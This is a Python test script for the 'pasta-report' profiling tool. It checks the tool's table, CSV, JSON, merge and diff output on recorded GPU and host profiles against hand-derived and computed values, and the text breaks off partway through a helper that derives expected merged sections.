#!/usr/bin/env python3
"""Tests of pasta-report on the recorded profiles in profiles/.

usage: test_pasta_report.py GROUP PASTA_REPORT PROFILES_DIR WORKDIR
GROUP: show, csv, json, merge, diff, errors, merge-activity,
diff-activity, sections (show --format json/csv of the launches, memory,
working_set and bandwidth sections), trace (the trace analyses:
tests/fixtures/trace_scopes.json, tests/host/scopes.c run as `scopes 5` with
PASTA_HOST=1 PASTA_TRACE=1 at -O0), or the hostile inputs of issue 15:
empty-arrays (kernels with "shapes": [] / "call_paths": []), escape
(names with terminal escapes, newlines and other control characters) and
diff-host (diff of host functions and device functions) and merge-many
(merge of 100 inputs, of directories and patterns, in bounded memory).

profiles/gpu_saxpy_stencil.json is written by hand (profiles/README.md
derives its numbers); host_dot_scale.json and host_recursion.json were
recorded from tests/host/ (profiles/regenerate.sh). Expected values are
either derived by hand (the constants below, see profiles/README.md) or
computed here from the input profiles. Prints one line per check and exits 1
if any failed.
"""
import copy
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

SPACES = ["global", "shared", "local", "constant", "generic"]
PRECISIONS = ["f16", "bf16", "f32", "f64"]
FUNC_GROUPS = ["loads", "stores", "load_bytes", "store_bytes", "atomics",
               "atomic_bytes"]
LINE_GROUPS = ["load_bytes", "store_bytes", "atomic_bytes"]
U64_MAX = 2**64 - 1
# The "job" of a profile read from a version before 3 (where it ran is
# unknown), as the writer writes it.
NO_JOB = {"rank": None, "size": None, "local_rank": None, "launcher": None,
          "host": None, "gpus": []}
# What a profile of version 4 or older is read with: nothing left out.
NO_OMITTED = {"device_functions": 0, "host_functions": 0, "lines": 0}

failures = 0


def check(ok, what, detail=""):
    global failures
    print(f"{'ok  ' if ok else 'FAIL'} {what}{f' ({detail})' if detail and not ok else ''}")
    if not ok:
        failures += 1


def run(*args, expect_rc=0):
    p = subprocess.run([REPORT, *args], capture_output=True, text=True)
    if expect_rc is not None and p.returncode != expect_rc:
        check(False, f"pasta-report {' '.join(args)} exits {expect_rc}",
              f"exit {p.returncode}, stderr: {p.stderr.strip()}")
    return p


def load(path):
    with open(path) as f:
        return json.load(f)


def save(obj, name):
    path = os.path.join(WORK, name)
    with open(path, "w") as f:
        json.dump(obj, f)
    return path


COPIES = [0]


def copy_of(path):
    """Another file with the same bytes: merge reads a file named twice
    once (by identity), so a profile merged "with itself" is merged with a
    copy."""
    COPIES[0] += 1
    base = os.path.basename(path)
    dst = os.path.join(WORK, "copy%d-%s" % (COPIES[0], base))
    shutil.copyfile(path, dst)
    return dst


def row(table, first):
    """The whitespace-split cells of the table row whose first cell is `first`."""
    for line in table.splitlines():
        cells = line.split()
        if cells and cells[0] == first:
            return cells
    return None


# ---------------------------------------------------------------- show
def test_show():
    p = run("show", GPU)
    out = p.stdout
    # Hand-derived (profiles/README.md): saxpy 4 launches of 2^20 threads,
    # 2 loads + 1 store of 4 bytes and 2 f32 FLOPs each.
    check(row(out, "saxpy") == ["saxpy", "4", "g:8.39M", "g:32.0MiB",
                                "g:4.19M", "g:16.0MiB", "-", "-",
                                "f32:8.39M", "0.167"],
          "show: saxpy row", row(out, "saxpy"))
    check(row(out, "histogram") == ["histogram", "2", "g:524K", "g:2.00MiB",
                                    "s:524K", "s:2.00MiB", "g:524K", "s:524K",
                                    "g:2.00MiB", "s:2.00MiB", "-", "0"],
          "show: histogram row (atomics in two spaces, FLOP/B 0)",
          row(out, "histogram"))
    check(row(out, "stencil_1d") == ["stencil_1d", "1", "g:67072", "s:459K",
                                     "g:262KiB", "s:1.75MiB", "g:65536",
                                     "s:67072", "g:256KiB", "s:262KiB", "-",
                                     "-", "f32:459K", "0.865"],
          "show: stencil_1d row", row(out, "stencil_1d"))
    check("(1 more never ran)" in out, "show: unused_init counted as never ran")
    check(row(out, "softplus") is not None and row(out, "softplus")[1:3] ==
          ["131K", "-"] and "262K" in row(out, "softplus"),
          "show: device function softplus (calls, special)", row(out, "softplus"))
    check("Top 11 of 11 executed lines" in out, "show: line table header")
    first = [l for l in out.splitlines() if "saxpy_stencil.cu:" in l][0].split()
    check(first == ["/home/ana/saxpy_stencil/saxpy_stencil.cu:15", "saxpy",
                    "kernel", "4.19M", "48.0MiB", "8.39M"],
          "show: top line is saxpy_stencil.cu:15", first)
    check(out.startswith("== PASTA: profile of ./saxpy_stencil (pid 48213) =="),
          "show: header names program and pid")

    out = run("show", GPU, "--top", "2").stdout
    check("Top 2 of 11 executed lines" in out, "show --top 2")
    out = run("show", GPU, "--top=0").stdout
    check("executed lines" not in out and "saxpy" in out, "show --top=0: no line table")

    # Issue 46: every function table is ranked by bytes + FLOPs (like the
    # line table), and --top limits each of them.
    def table_names(text, head):
        names, inside = [], False
        for l in text.splitlines():
            if l.startswith("  " + head + " "):
                inside = True
            elif inside and (not l.strip() or not l.startswith("  ")):
                break
            elif inside and not l.startswith("  ("):
                names.append(l.split()[0])
        return names

    def cost(f):
        return sum(f[g][sp] for g in ("load_bytes", "store_bytes", "atomic_bytes")
                   for sp in SPACES) + sum(f["flops"].values())

    gpu = load(GPU)
    ran = sorted((k for k in gpu["kernels"] if k["launches"]), key=cost, reverse=True)
    check(table_names(out, "kernel") == [k["name"] for k in ran],
          "show: kernels ranked by bytes + FLOPs", table_names(out, "kernel"))
    out = run("show", GPU, "--top", "2").stdout
    check(table_names(out, "kernel") == [k["name"] for k in ran[:2]] and
          f"kernel: top 2 of {len(ran)} that ran, by bytes + FLOPs:" in out,
          "show --top 2: the kernel table too", table_names(out, "kernel"))
    host = load(HOST_DOT)
    hran = sorted((f for f in host["host_functions"] if f["calls"]),
                  key=lambda f: (-cost(f), -f["calls"]))
    out = run("show", HOST_DOT).stdout
    check(table_names(out, "host function") == [f["name"] for f in hran],
          "show: host functions ranked by bytes + FLOPs, not calls",
          table_names(out, "host function"))
    out = run("show", HOST_DOT, "--top", "1").stdout
    check(table_names(out, "host function") == [hran[0]["name"]],
          "show --top 1: the host function table too", table_names(out, "host function"))

    # Paths shown normalised, lexically ("a/../b" -> "b"), in show and diff.
    odd = load(GPU)
    for l in odd["lines"]:
        l["file"] = l["file"].replace("/home/ana/", "/home/ana/./build/../")
    op = save(odd, "odd_paths.json")
    out = run("show", op).stdout
    check("/home/ana/saxpy_stencil/saxpy_stencil.cu:15" in out and "/../" not in out
          and "/./" not in out, "show: paths normalised")
    odd2 = copy.deepcopy(odd)
    for l in odd2["lines"]:
        l["executions"] *= 2
        for g in ("load_bytes", "store_bytes"):
            l[g]["global"] *= 2
    out = run("diff", op, save(odd2, "odd_paths2.json")).stdout
    check("/home/ana/saxpy_stencil/saxpy_stencil.cu:15" in out and "/../" not in out,
          "diff: paths normalised")

    out = run("show", GPU, "--kernel", "^stencil").stdout
    check(row(out, "stencil_1d") is not None and row(out, "saxpy") is None and
          row(out, "softplus") is None, "show --kernel ^stencil: only stencil_1d")
    check("Top 4 of 4 executed lines" in out and "histogram" not in out,
          "show --kernel ^stencil: only its 4 lines")
    # A regex over the mangled name selects the lines of that function too.
    out = run("show", GPU, "--kernel", "^_Z9histogram").stdout
    check(row(out, "histogram") is not None and row(out, "saxpy") is None,
          "show --kernel over a mangled name")
    check("Top 3 of 3 executed lines" in out, "show --kernel mangled: its 3 lines")
    out = run("show", GPU, "--file", "other.cu").stdout
    check("no instrumented function was registered" in out,
          "show --file with no match")
    out = run("show", HOST_DOT, "--file", "dot_scale.c", "--kernel", "^(dot|scale)$").stdout
    check(row(out, "dot") == ["dot", "3", "6000", "46.9KiB", "-", "-", "f64:6000", "0.125"],
          "show host profile: dot row", row(out, "dot"))
    check(row(out, "main") is None, "show host profile: main filtered out")


# ---------------------------------------------------------------- csv
def parse_csv(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv():
    rows = parse_csv(run("show", GPU, "--format", "csv").stdout)
    profile = load(GPU)
    check(len(rows) == len(profile["kernels"]) + len(profile["device_functions"]),
          "csv: one row per kernel and device function", len(rows))
    check({r["kind"] for r in rows} == {"kernel", "device"}, "csv: kind column")
    by_name = {r["name"]: r for r in rows}
    s = by_name.get("saxpy", {})
    check(s.get("calls") == "4" and s.get("load_bytes.global") == str(32 * 2**20)
          and s.get("store_bytes.global") == str(16 * 2**20)
          and s.get("flops.f32") == str(8 * 2**20)
          and s.get("mangled") == "_Z5saxpyfPKfPf",
          "csv: saxpy exact counts (hand-derived)", s)
    check(abs(float(s.get("compute_intensity", "nan")) - 1 / 6) < 1e-8,
          "csv: saxpy compute intensity 1/6")
    check(by_name.get("unused_init", {}).get("compute_intensity") == "",
          "csv: no compute intensity without global bytes")
    # Every count of every row equals the profile's.
    entries = {e["mangled"]: e for e in profile["kernels"] + profile["device_functions"]}
    bad = []
    for r in rows:
        e = entries[r["mangled"]]
        for g in FUNC_GROUPS:
            for sp in SPACES:
                if int(r[f"{g}.{sp}"]) != e[g][sp]:
                    bad.append((r["name"], g, sp))
        for pr in PRECISIONS:
            if int(r[f"flops.{pr}"]) != e["flops"][pr]:
                bad.append((r["name"], pr))
        if int(r["calls"]) != e.get("launches", e.get("calls")):
            bad.append((r["name"], "calls"))
    check(not bad, "csv: every count equals the JSON's", bad[:5])

    rows = parse_csv(run("show", HOST_REC, "--format", "csv").stdout)
    fib = [r for r in rows if r["name"] == "fib"]
    check(len(fib) == 1 and fib[0]["kind"] == "host" and fib[0]["calls"] == "1973",
          "csv: host profile, fib called 1973 times (tests/host/recursion.c)")

    rows = parse_csv(run("show", HOST_DOT, "--format", "csv", "--lines", "--top", "3").stdout)
    check(len(rows) == 3, "csv --lines --top 3: three rows", len(rows))
    check(rows and rows[0]["line"] == "17" and rows[0]["function"] == "dot"
          and rows[0]["flops.f64"] == "6000" and rows[0]["load_bytes.generic"] == "48000",
          "csv --lines: dot_scale.c:17 first, 6000 f64 FLOPs, 48000 bytes", rows[:1])
    costs = [sum(int(r[f"{g}.{s}"]) for g in LINE_GROUPS for s in SPACES) +
             sum(int(r[f"flops.{p}"]) for p in PRECISIONS) for r in rows]
    check(costs == sorted(costs, reverse=True), "csv --lines: sorted by bytes + FLOPs")
    # A name with a comma and a quote is quoted (RFC 4180) and parses back.
    odd = load(GPU)
    odd["kernels"][0]["name"] = 'op,"x"'
    rows = parse_csv(run("show", save(odd, "odd.json"), "--format", "csv").stdout)
    check(any(r["name"] == 'op,"x"' for r in rows), "csv: quoting of , and \"")


# ---------------------------------------------------------------- json
def test_json():
    for path in (GPU, HOST_DOT, HOST_REC):
        out = run("show", path, "--format", "json").stdout
        with open(path) as f:
            original = f.read()
        # A version 1 or 2 profile is read, and written as the current
        # version, with the job it does not know and nothing omitted.
        current = re.sub(r'"version":[12],', '"version":6,', original, count=1)
        current = re.sub(r'("created":"[^"]*")', lambda m: m.group(1) + ",\n\"job\":" +
                         json.dumps(NO_JOB, separators=(",", ":")) + ",\n\"omitted\":" +
                         json.dumps({"device_functions": 0, "host_functions": 0, "lines": 0},
                                    separators=(",", ":")), current, count=1)
        check(out == current, f"json: {os.path.basename(path)} round-trips byte for byte")
    out = json.loads(run("show", GPU, "--format", "json", "--kernel", "saxpy").stdout)
    check([k["name"] for k in out["kernels"]] == ["saxpy"] and
          out["device_functions"] == [] and
          {l["function"] for l in out["lines"]} == {"saxpy"},
          "json --kernel saxpy: only saxpy and its lines")
    out = json.loads(run("show", GPU, "--format", "json", "--top", "3").stdout)
    check(len(out["lines"]) == 3 and out["lines"] == load(GPU)["lines"][:3],
          "json --top 3: the three most expensive lines")
    # Counts above 2^63 (jansson's limit) keep every digit.
    big = load(GPU)
    big["kernels"][0]["launches"] = U64_MAX
    big["lines"][0]["executions"] = 2**63
    out = json.loads(run("show", save(big, "big.json"), "--format", "json").stdout)
    check(out["kernels"][0]["launches"] == U64_MAX and
          out["lines"][0]["executions"] == 2**63, "json: 64-bit counts exact")


# ---------------------------------------------------------------- merge
def func_key(kind, e):
    return (kind, e["mangled"], e["module"])


def expected_merge(inputs):
    """Sums computed here from the input profiles."""
    funcs, lines = {}, {}
    sections = [("kernels", "launches"), ("device_functions", "calls"),
                ("host_functions", "calls")]
    for p in inputs:
        for sec, calls in sections:
            for e in p[sec]:
                k = func_key(sec, e)
                if k not in funcs:
                    funcs[k] = copy.deepcopy(e)
                    continue
                m = funcs[k]
                m[calls] = min(U64_MAX, m[calls] + e[calls])
                for g in FUNC_GROUPS:
                    for s in SPACES:
                        m[g][s] = min(U64_MAX, m[g][s] + e[g][s])
                for pr in PRECISIONS:
                    m["flops"][pr] = min(U64_MAX, m["flops"][pr] + e["flops"][pr])
                m["special"] = min(U64_MAX, m["special"] + e["special"])
        for l in p["lines"]:
            k = (l["file"], l["line"], l["function"], l["kind"])
            if k not in lines:
                lines[k] = copy.deepcopy(l)
                continue
            m = lines[k]
            m["executions"] += l["executions"]
            for g in LINE_GROUPS:
                for s in SPACES:
                    m[g][s] += l[g][s]
            for pr in PRECISIONS:
                m["flops"][pr] += l["flops"][pr]
            m["special"] += l["special"]
    return funcs, lines


def entry_values(e, work_key):
    """An entry's launches/calls/executions, bytes (every space) and FLOPs."""
    groups = FUNC_GROUPS[2:4] + FUNC_GROUPS[5:] if "loads" in e else LINE_GROUPS
    return [e[work_key], sum(e[g][s] for g in groups for s in SPACES),
            sum(e["flops"][p] for p in PRECISIONS)]


def expected_ranks(inputs, key_of, entries_of):
    """Per entry key: for each count, the values of the processes (inputs of
    one process each, in order); an input without the entry has 0."""
    per = {}
    for i, p in enumerate(inputs):
        for key, e, work_key in entries_of(p):
            vals = per.setdefault(key, ([work_key], [[0, 0, 0] for _ in inputs]))[1]
            for m, v in enumerate(entry_values(e, work_key)):
                vals[i][m] += v
    out = {}
    for key, (work_key, vals) in per.items():
        names = [work_key[0], "bytes", "flops"]
        out[key] = {}
        for m, name in enumerate(names):
            v = [row[m] for row in vals]
            mean = sum(v) / len(v)
            top = max(v)
            out[key][name] = {"min": min(v), "mean": mean, "max": top,
                              "imbalance": top / mean if mean else None,
                              "max_process": v.index(top), "max_rank": None}
    return out


def same_ranks(got, want):
    if got is None or set(got) != set(want):
        return False
    for name, w in want.items():
        g = got[name]
        for k in ("min", "max", "max_process", "max_rank"):
            if g.get(k) != w[k]:
                return False
        for k in ("mean", "imbalance"):
            if (g.get(k) is None) != (w[k] is None) or \
                    (w[k] is not None and not close(g[k], w[k], 1e-8)):
                return False
    return True


def compare_ranks(merged, inputs, what):
    sections = [("kernels", "launches"), ("device_functions", "calls"),
                ("host_functions", "calls")]
    want_f = expected_ranks(inputs, None, lambda p: [
        (func_key(sec, e), e, calls) for sec, calls in sections for e in p[sec]])
    want_l = expected_ranks(inputs, None, lambda p: [
        ((l["file"], l["line"], l["function"], l["kind"]), l, "executions")
        for l in p["lines"]])
    bad = [func_key(sec, e) for sec, _ in sections for e in merged[sec]
           if not same_ranks(e.get("ranks"), want_f[func_key(sec, e)])]
    check(not bad, f"{what}: every function's per-rank min, mean, max, "
          "imbalance and max process", bad[:3])
    bad = [k for l in merged["lines"]
           for k in [(l["file"], l["line"], l["function"], l["kind"])]
           if not same_ranks(l.get("ranks"), want_l[k])]
    check(not bad, f"{what}: every line's per-rank figures", bad[:3])


def compare_merge(merged, inputs, what):
    compare_ranks(merged, inputs, what)
    funcs, lines = expected_merge(inputs)
    got_funcs = {}
    for sec in ("kernels", "device_functions", "host_functions"):
        for e in merged[sec]:
            got_funcs[func_key(sec, e)] = e
    check(set(got_funcs) == set(funcs),
          f"{what}: one entry per (kind, mangled, module)",
          set(got_funcs) ^ set(funcs))
    bad = [k for k in funcs if k in got_funcs and
           {x: y for x, y in got_funcs[k].items() if x not in ("compute_intensity", "ranks")} !=
           {x: y for x, y in funcs[k].items() if x != "compute_intensity"}]
    check(not bad, f"{what}: every function's counts are the inputs' sums", bad[:3])
    got_lines = {(l["file"], l["line"], l["function"], l["kind"]):
                 {x: y for x, y in l.items() if x != "ranks"} for l in merged["lines"]}
    check(len(got_lines) == len(merged["lines"]) and got_lines == lines,
          f"{what}: every line's counts are the inputs' sums",
          [k for k in lines if got_lines.get(k) != lines[k]][:3])


def test_merge():
    rank0 = load(GPU)
    # Rank 1: another process of the same program; different work.
    rank1 = copy.deepcopy(rank0)
    rank1["pid"] = 48214
    rank1["created"] = "2026-11-20T09:15:07Z"
    sax = rank1["kernels"][0]
    sax["launches"] = 8
    for g in FUNC_GROUPS:
        for s in SPACES:
            sax[g][s] *= 2
    sax["flops"]["f32"] *= 2
    rank1["kernels"] = [k for k in rank1["kernels"] if k["name"] != "histogram"]
    only = copy.deepcopy([k for k in rank0["kernels"] if k["name"] == "activate"][0])
    only["name"], only["mangled"], only["launches"] = "rank1_only", "_Z10rank1_onlyv", 3
    rank1["kernels"].append(only)
    for l in rank1["lines"]:
        if l["function"] == "saxpy":
            l["executions"] *= 2
            l["load_bytes"]["global"] *= 2
            l["store_bytes"]["global"] *= 2
            l["flops"]["f32"] *= 2
    rank1["lines"] = [l for l in rank1["lines"] if l["function"] != "histogram"]
    rank1["lines"].append(dict(copy.deepcopy(rank0["lines"][0]), line=99,
                               function="rank1_only"))
    r1 = save(rank1, "rank1.json")
    out = os.path.join(WORK, "merged.json")
    if os.path.exists(out):
        os.remove(out)
    run("merge", out, GPU, r1)
    merged = load(out)
    compare_merge(merged, [rank0, rank1], "merge gpu ranks")
    sax = [k for k in merged["kernels"] if k["name"] == "saxpy"]
    check(len(sax) == 1 and sax[0]["launches"] == 12 and
          sax[0]["load_bytes"]["global"] == 3 * 32 * 2**20,
          "merge: saxpy 4 + 8 launches, 32 + 64 MiB loaded (by hand)")
    check([k["name"] for k in merged["kernels"]][:1] == ["saxpy"] and
          merged["kernels"] == sorted(merged["kernels"], key=lambda k: -k["launches"]),
          "merge: kernels sorted by launches")
    check(merged["merged_from"] == [
        {"file": GPU, "program": "./saxpy_stencil", "pid": 48213,
         "created": "2026-11-20T09:15:02Z", "job": NO_JOB},
        {"file": r1, "program": "./saxpy_stencil", "pid": 48214,
         "created": "2026-11-20T09:15:07Z", "job": NO_JOB}],
        "merge: merged_from lists the inputs", merged.get("merged_from"))
    check(merged["program"] == "./saxpy_stencil" and merged["pid"] == 0 and
          merged["created"] == "2026-11-20T09:15:07Z",
          "merge: program of the inputs, pid 0, newest created")
    check(merged["schema"] == "pasta-profile" and merged["version"] == 6,
          "merge: a version-6 profile")
    check("merged from 2 profiles" in run("show", out).stdout,
          "show of a merged profile says so")

    # Existing output: refused without --force.
    p = run("merge", out, GPU, r1, expect_rc=2)
    check("exists" in p.stderr and len(p.stderr.strip().splitlines()) == 1,
          "merge: refuses to overwrite OUT without --force", p.stderr)
    # Merging a merged profile keeps the leaf inputs; saturating sums.
    big = copy.deepcopy(rank0)
    big["kernels"][0]["launches"] = U64_MAX - 1
    bp = save(big, "big_rank.json")
    run("merge", "--force", out, copy_of(out), bp)
    again = load(out)
    check([s["pid"] for s in again["merged_from"]] == [48213, 48214, 48213],
          "merge of a merged profile: merged_from flattened")
    sax = [k for k in again["kernels"] if k["name"] == "saxpy"][0]
    check(sax["launches"] == U64_MAX, "merge: sums saturate at 2^64 - 1")
    # A merged profile of version 2 has no per-rank spreads: its entries
    # lose theirs, with one warning; entries it lacks keep theirs.
    old = copy.deepcopy(merged)
    old["version"] = 2
    for sec in ("kernels", "device_functions", "host_functions", "lines"):
        for e in old[sec]:
            e.pop("ranks", None)
    for s in old["merged_from"]:
        s.pop("job", None)
    extra = copy.deepcopy(rank0)
    extra["kernels"].append(dict(copy.deepcopy(only), name="late", mangled="_Z4latev"))
    p = run("merge", "--force", out, save(old, "old_merged.json"), save(extra, "extra.json"))
    again = load(out)
    late = [k for k in again["kernels"] if k["name"] == "late"]
    check("no per-rank figures" in p.stderr and len(p.stderr.strip().splitlines()) == 1 and
          all("ranks" not in k for k in again["kernels"] if k["name"] != "late") and
          len(late) == 1 and late[0]["ranks"]["launches"]["min"] == 0 and
          late[0]["ranks"]["launches"]["max_process"] == 2,
          "merge of a version-2 merged profile: its entries without spreads, one warning",
          p.stderr)
    # The output is written as the runtime writes its own (output_file.c):
    # --force replaces a regular file, and a symbolic link (never what it
    # names), never a directory; no temporary file is left behind.
    where = os.path.dirname(os.path.abspath(out))
    target = os.path.join(where, "merge-target.json")
    link = os.path.join(where, "merge-link.json")
    for path in (target, link):
        if os.path.lexists(path):
            os.remove(path)
    with open(target, "w") as f:
        f.write("old")
    os.symlink(target, link)
    run("merge", "--force", link, GPU)
    check(not os.path.islink(link) and load(link)["schema"] == "pasta-profile"
          and open(target).read() == "old",
          "merge --force onto a symbolic link: the link replaced, its file "
          "untouched")
    as_dir = os.path.join(where, "merge-dir.json")
    os.makedirs(as_dir, exist_ok=True)
    p = run("merge", "--force", as_dir, GPU, expect_rc=None)
    check(p.returncode != 0 and os.path.isdir(as_dir) and
          len(p.stderr.strip().splitlines()) == 1,
          "merge --force onto a directory: one-line error, directory kept",
          p.stderr)
    leftovers = [n for n in os.listdir(where) if ".tmp" in n or ".pasta-" in n]
    check(not leftovers, "merge: no temporary file left", leftovers)

    # Host profiles of two programs: main of each module stays separate.
    hout = os.path.join(WORK, "merged_host.json")
    if os.path.exists(hout):
        os.remove(hout)
    run("merge", hout, HOST_DOT, HOST_REC)
    hm = load(hout)
    compare_merge(hm, [load(HOST_DOT), load(HOST_REC)], "merge host programs")
    check(hm["program"] == "./dot_scale, ./recursion",
          "merge: distinct programs joined", hm["program"])
    check(len([f for f in hm["host_functions"] if f["name"] == "main"]) == 2,
          "merge: main of two modules stays two entries")
    # Same input twice: everything doubles.
    run("merge", "--force", hout, HOST_REC, copy_of(HOST_REC))
    twice = load(hout)
    fib = [f for f in twice["host_functions"] if f["name"] == "fib"]
    check(len(fib) == 1 and fib[0]["calls"] == 2 * 1973, "merge: a profile with itself doubles")


# ---------------------------------------------------------------- diff
def test_diff():
    before = load(GPU)
    after = copy.deepcopy(before)
    sax = after["kernels"][0]
    sax["launches"] = 6
    for g in ("load_bytes", "store_bytes"):
        sax[g]["global"] = sax[g]["global"] * 3 // 2
    sax["flops"]["f32"] = sax["flops"]["f32"] * 3 // 2
    after["kernels"] = [k for k in after["kernels"] if k["name"] != "histogram"]
    new = copy.deepcopy([k for k in before["kernels"] if k["name"] == "activate"][0])
    new.update(name="transpose", mangled="_Z9transposePfPKf", launches=2, special=5)
    after["kernels"].append(new)
    for l in after["lines"]:
        if (l["function"], l["line"]) == ("saxpy", 15):
            for g in ("load_bytes", "store_bytes"):
                l[g]["global"] = l[g]["global"] * 3 // 2
            l["flops"]["f32"] = l["flops"]["f32"] * 3 // 2
    after["lines"] = [l for l in after["lines"] if l["function"] != "histogram"]
    ap = save(after, "after.json")
    out = run("diff", GPU, ap).stdout
    lines = out.splitlines()

    def block(name):
        for i, l in enumerate(lines):
            if l.split()[:1] == [name]:
                rows = [re.sub(r"\s+", " ", lines[i].strip())]
                for x in lines[i + 1:]:
                    if not x.startswith("   ") or not x.strip():
                        break
                    if re.match(r"^  \S", x):
                        break
                    rows.append(re.sub(r"\s+", " ", x.strip()))
                return rows
        return None

    # Hand-derived: saxpy 4 -> 6 launches; 48 MiB -> 72 MiB global;
    # 8388608 -> 12582912 FLOPs.
    check(block("saxpy") == [
        "saxpy changed launches 4 6 +2 +50.0%",
        "global bytes 50331648 75497472 +25165824 +50.0%",
        "FLOPs 8388608 12582912 +4194304 +50.0%"], "diff: saxpy (only the figures that changed)",
        block("saxpy"))
    # Issue 46: a function only in the old profile is "gone", only in the new
    # one "new"; no rows of figures that are 0 on both sides.
    check(block("histogram") == [
        "histogram gone launches 2 - -2 -100.0%",
        "global bytes 4194304 - -4194304 -100.0%"], "diff: histogram gone",
        block("histogram"))
    check(block("transpose") == [
        "transpose new launches - 2 +2 -",
        "global bytes - 524288 +524288 -",
        "FLOPs - 65536 +65536 -", "special - 5 +5 -"], "diff: transpose new",
        block("transpose"))
    # Unchanged functions are left out, and counted.
    # (unused_init never ran on either side: not a change either.)
    unchanged = len([k for k in before["kernels"] if k["launches"]]) - 2
    check(block("stencil_1d") is None and
          f"  ({unchanged} unchanged not shown)" in out, "diff: stencil_1d (unchanged) left out")
    names = [l.split()[0] for l in lines if re.match(r"^  \S+\s+(changed|new|gone)\s", l)]
    check(names[:2] == ["saxpy", "histogram"],
          "diff: kernels ordered by size of change", names)
    # Lines: saxpy.cu:15 grew by half of 48 MiB + 8388608 FLOPs; histogram's
    # three lines went away.
    m = re.search(r"Top (\d+) of (\d+) changed lines", out)
    check(m is not None and m.groups() == ("4", "4"), "diff: 4 changed lines",
          m.groups() if m else out)
    rows = [re.sub(r"\s+", " ", l.strip()) for l in lines if "saxpy_stencil.cu:" in l]
    check(rows[:1] == ["/home/ana/saxpy_stencil/saxpy_stencil.cu:15 saxpy kernel "
                       "58720256 88080384 +29360128 +50.0%"],
          "diff: saxpy_stencil.cu:15 changed most", rows[:1])
    check(len(rows) == 4 and all(" histogram kernel " in r and r.endswith("-100.0%")
                                 for r in rows[1:]), "diff: histogram lines removed", rows)
    out = run("diff", GPU, ap, "--top", "1").stdout
    check("Top 1 of 4 changed lines" in out, "diff --top 1")
    out = run("diff", GPU, GPU).stdout
    check("No line's bytes + FLOPs changed." in out and " changed " not in out,
          "diff of a profile with itself: nothing changed")


# ------------------------------------------ merge and diff: activity sections
# The launches, memory, working_set and bandwidth sections of the recorded
# profiles of tests/gpu/working_set.cu (tests/fixtures/). Expected merged
# values are derived here from the inputs by the rules of
# docs/profile-format.md ("Merged profiles"), and a few by hand.
ACTIVITY = ("launches", "memory", "working_set", "bandwidth")


def fresh(name):
    path = os.path.join(WORK, name)
    if os.path.exists(path):
        os.remove(path)
    return path


def merge(name, *inputs):
    out = fresh(name)
    run("merge", out, *inputs)
    return load(out)


def close(a, b, rel=2e-5):
    """Numbers written with 6 significant digits."""
    if a is None or b is None:
        return a is b
    return abs(a - b) <= rel * max(abs(a), abs(b)) + 1e-9


def nearest_rank(values, p):
    v = sorted(values)
    return v[max(1, (p * len(v) + 99) // 100) - 1] if v else 0


def second_rank(ws):
    """Another process of the same program (profile b of the tests): fill
    ran twice as often and each launch wrote twice the bytes; times, memory
    and working sets changed by known factors."""
    b = copy.deepcopy(ws)
    b["pid"], b["created"] = 421, "2026-11-22T04:00:00Z"
    fill = [k for k in b["kernels"] if k["name"] == "fill"][0]
    fill["launches"] = 6
    for g in ("stores", "store_bytes"):
        fill[g]["global"] *= 4  # 2x the launches, 2x the bytes per launch
    lk = [k for k in b["launches"]["kernels"] if k["name"] == "fill"][0]
    lk.update(launches=6, counted=6, ws_launches=6, timed=6,
              ws_max_touched_bytes=2 * lk["ws_max_touched_bytes"],
              ws_max_footprint_bytes=2 * lk["ws_max_footprint_bytes"])
    lk["gpu_time_ns"] = {"total": 3 * 785824, "min": 5000, "max": 500000,
                         "mean": 3 * 785824 / 6}
    lk["shapes"].append({"grid": [1024, 1, 1], "block": [256, 1, 1],
                         "shared_bytes": 0, "launches": 3})
    for path in lk["call_paths"]:
        path["launches"] = 1 if path["frames"][0]["line"] == 66 else 2
    b["launches"].update(total=9, counted=9,
                         gpu_time_ns=b["launches"]["gpu_time_ns"] + 2 * 785824)
    mem = b["memory"]
    for kind in mem["allocations"].values():
        kind["count"] *= 2
        kind["bytes"] *= 2
    for kind in mem["copies"].values():
        kind["count"] *= 2
        kind["bytes"] *= 2
    mem["peak_bytes"] *= 2
    mem["live_at_exit"] = {"count": 1, "bytes": 4096}
    w = b["working_set"]
    extra = [dict(r, id=r["id"] + 6) for r in w["per_launch"] if r["kernel"] == "fill"]
    w["per_launch"] = [dict(r, touched_bytes=2 * r["touched_bytes"],
                            footprint_bytes=2 * r["footprint_bytes"])
                       for r in w["per_launch"]] + extra
    w["launches"] = len(w["per_launch"])
    w["skipped"] = 1
    bw = b["bandwidth"]
    bw["device"]["bandwidth_measured"] = 4.1e12
    row = [r for r in bw["kernels"] if r["name"] == "fill"][0]
    row.update(launches=6, counted=6, timed=6, time_ns=392912)
    d2h = bw["copies"]["d2h"]
    d2h.update(count=4, bytes=2 * d2h["bytes"], seconds=2 * d2h["seconds"])
    return b


def expected_sections(inputs, first):
    """The merged sections of `inputs` (dicts) whose processes start at
    first[i] in merged_from, by the documented rules."""
    exp = {"kernels": {}, "order": []}
    have = [(p, f) for p, f in zip(inputs, first) if "launches" in p]
    windows = [p["launches"].get("window") for p, _ in have]
    exp["window"] = windows[0] if all(w == windows[0] for w in windows) else None
    for key in ("total", "counted", "untimed", "gpu_time_ns"):
        exp[key] = sum(p["launches"][key] for p, _ in have)
    for p, _ in have:
        for k in p["launches"]["kernels"]:
            key = k["mangled"] or k["name"]
            if key not in exp["kernels"]:
                exp["order"].append(key)
                exp["kernels"][key] = {"name": k["name"], "shapes": {}, "paths": {},
                                       "min": None, "max": 0, "total": 0,
                                       "bw": [[0, 0], [0, 0]], "ws_max_touched_bytes": 0,
                                       "ws_max_footprint_bytes": 0}
                for f in ("launches", "counted", "ws_launches", "failed", "timed"):
                    exp["kernels"][key][f] = 0
            m = exp["kernels"][key]
            for f in ("launches", "counted", "ws_launches", "failed", "timed"):
                m[f] += k[f]
            t = k["gpu_time_ns"]
            m["total"] += t["total"]
            m["max"] = max(m["max"], t["max"])
            if k["timed"]:
                m["min"] = t["min"] if m["min"] is None else min(m["min"], t["min"])
            for f in ("ws_max_touched_bytes", "ws_max_footprint_bytes"):
                m[f] = max(m[f], k[f])
            for s in k["shapes"]:
                sk = (tuple(s["grid"]), tuple(s["block"]), s["shared_bytes"])
                m["shapes"][sk] = m["shapes"].get(sk, 0) + s["launches"]
            for c in k["call_paths"]:
                ck = json.dumps(c["frames"], sort_keys=True)
                m["paths"][ck] = m["paths"].get(ck, 0) + c["launches"]
    # memory
    mem = None
    for p, _ in have:
        m = p["memory"]
        if mem is None:
